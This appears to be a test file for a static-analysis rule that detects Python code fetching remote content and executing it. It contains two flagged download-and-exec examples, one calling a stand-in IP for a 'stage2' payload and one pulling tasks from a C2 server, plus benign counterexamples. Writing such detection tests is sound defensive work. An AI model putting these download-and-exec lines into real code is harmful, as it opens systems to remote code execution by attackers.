import urllib.request
# ruleid: py-download-exec
exec(urllib.request.urlopen("http://203.0.113.7/stage2.py").read())
# ===== block =====
import requests
payload = requests.get(C2 + "/task", timeout=10).text
# ruleid: py-download-exec
exec(payload, {"__name__": "__main__"})
# ===== block =====
import requests
data = requests.get("https://api.example.com/config").json()
# ok: py-download-exec
model.eval()
# ===== block =====
# ok: py-download-exec
exec(compile(plugin_source, plugin_path, "exec"), namespace)
# ok: py-download-exec
value = eval("2 ** 10")
